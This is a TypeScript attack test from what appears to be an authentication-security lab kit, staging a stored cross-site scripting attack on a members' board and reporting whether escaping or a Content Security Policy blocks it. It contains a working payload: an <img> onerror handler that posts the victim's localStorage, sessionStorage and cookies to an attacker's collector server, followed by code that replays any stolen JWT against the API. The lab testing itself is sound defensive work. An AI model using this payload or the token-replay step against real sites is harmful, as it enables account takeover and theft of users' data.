/**
 * mallory has her own account on the members' board. She posts a comment that carries an <img>
 * whose onerror handler sends the page's storage (localStorage, sessionStorage, cookies) to her
 * collector. alice signs in, the board shows the comment, and the handler runs in alice's page.
 * mallory then calls the API with what arrived, as alice, from her own machine.
 */
import { createServer } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { blocked, defineAttack, postJson, worked } from '@authlab/lab-kit';

export default defineAttack({
  title: "post a comment whose script sends alice's access token to mallory, then use it against the API",
  why: 'the page renders a comment as HTML, lets an inline script run and send data anywhere, and keeps the token where any script can read it',
  async run(lab) {
    // mallory's collector: the first thing the injected script sends is the loot.
    let receive: (body: string) => void = () => {};
    const loot = new Promise<string>((resolve) => {
      receive = resolve;
    });
    const collector = createServer((req, res) => {
      let body = '';
      req.on('data', (chunk) => {
        body += chunk;
      });
      req.on('end', () => {
        receive(body);
        res.writeHead(204).end();
      });
    });
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve));
    const collectorUrl = `http://127.0.0.1:${(collector.address() as { port: number }).port}/`;

    try {
      // 1. mallory signs in to her own account and posts the comment.
      const login = await postJson(lab, '/api/login', { username: 'mallory', password: 'mallory-was-here' });
      const { access_token: malloryToken } = (await login.json()) as { access_token: string };
      const steal = `fetch('${collectorUrl}', { method: 'POST', mode: 'no-cors', body: JSON.stringify({ localStorage: { ...localStorage }, sessionStorage: { ...sessionStorage }, cookie: document.cookie }) })`;
      const posted = await postJson(
        lab,
        '/api/comments',
        { text: `Nice board! <img src="/x" onerror="${steal}">` },
        { authorization: `Bearer ${malloryToken}` },
      );
      if (posted.status !== 201) throw new Error(`mallory could not post her comment: ${posted.status}`);

      // 2. alice signs in and reads the board. Her page reports in its console what its CSP refuses:
      //    we listen for mallory's inline handler or her request to the collector, nothing else.
      const page = await (await (await lab.browser()).newContext()).newPage();
      const refused = new Promise<string>((resolve) => {
        page.on('console', (message) => {
          const text = message.text();
          const hers = text.includes('inline event handler') || text.includes(collectorUrl);
          if (text.includes('Content Security Policy') && hers) resolve(text);
        });
      });
      await page.goto(lab.url);
      await page.getByLabel('Username').fill('alice');
      await page.getByLabel('Password').fill('wonderland-42');
      await page.getByRole('button', { name: 'Sign in' }).click();
      await page.locator('#comments li', { hasText: 'Nice board!' }).waitFor();
      if ((await page.locator('#comments img').count()) === 0) {
        return blocked("the board showed mallory's comment as text: no <img>, so no script of hers ran");
      }

      // 3. The <img> fails to load, so its onerror handler runs, unless the page's CSP refuses it.
      const arrived = await Promise.race([
        loot,
        refused.then((text) => ({ refused: text })),
        sleep(10_000, { timeout: true }, { ref: false }),
      ]);
      if (typeof arrived !== 'string') {
        return blocked(
          'refused' in arrived
            ? `the comment became markup, but alice's browser enforced the page's CSP: "${arrived.refused.slice(0, 160)}…"`
            : 'the comment became markup, but nothing reached the collector within 10 s',
        );
      }

      // 4. mallory tries everything that looks like a JWT as a Bearer token, from her own machine.
      for (const token of arrived.match(/eyJ[\w-]+\.[\w-]+\.[\w-]+/g) ?? []) {
        const me = await fetch(`${lab.url}/api/me`, { headers: { authorization: `Bearer ${token}` } });
        const answer = await me.text();
        if (me.ok && JSON.parse(answer).username === 'alice') {
          return worked(
            `the collector received alice's storage with a token (${token.slice(0, 16)}…); with it, GET /api/me answers ${answer}`,
          );
        }
      }
      return blocked(`mallory's script ran in alice's page and sent ${arrived}, but no token that works was in it`);
    } finally {
      collector.close();
    }
  },
});
